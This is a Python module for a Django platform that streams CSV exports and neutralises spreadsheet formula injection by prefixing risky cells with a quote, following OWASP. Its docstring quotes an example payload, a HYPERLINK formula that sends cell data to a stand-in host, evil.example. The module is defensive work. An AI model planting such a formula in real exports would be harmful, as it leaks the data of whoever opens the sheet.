"""Spreadsheet exports whose cells are shown, never evaluated.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) evaluate a cell of a CSV file
that starts with `=`, `+`, `-` or `@` as a formula, and some skip a leading tab or carriage
return first. An organisation named `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
would put a link in every coordinator's copy of the directory that sends the sheet's data
away in one click. Following OWASP's guidance on CSV injection, a cell that starts with one
of those characters is written with a single quote in front, which makes it text: it shows
as typed, with the quote. A plain negative number (`-12`, `-3.5`) is not a formula and
stays a number.

Every export writes its rows through `csv_download` (or `SafeCsvWriter`), never through
`csv.writer` directly; `inspir/core/tests/test_exports.py` downloads every spreadsheet the
platform serves with hostile values in its data."""

import csv
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

# OWASP's list, and the NUL character that ASVS 1.2.10 adds.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
PLAIN_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(?:[.,][0-9]+)?")


def safe_cell(value: object) -> object:
    """`value` as a cell a spreadsheet program shows as it is: numbers unchanged, None
    empty, text that would start a formula prefixed with a single quote."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NEGATIVE_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` that passes every cell through `safe_cell`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class _Echo:
    """A file-like object that hands each written line back, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The rows as CSV text, one line at a time, every cell made safe."""
    writer = SafeCsvWriter(_Echo())
    yield "\ufeff"  # lets spreadsheet programs recognise UTF-8 (accents in names)
    for row in rows:
        yield writer.writerow(row)


def csv_download(rows: Iterable[Iterable[object]], *, filename: str) -> StreamingHttpResponse:
    """A CSV file to download, streamed as the rows come (a long export never sits whole
    in memory)."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
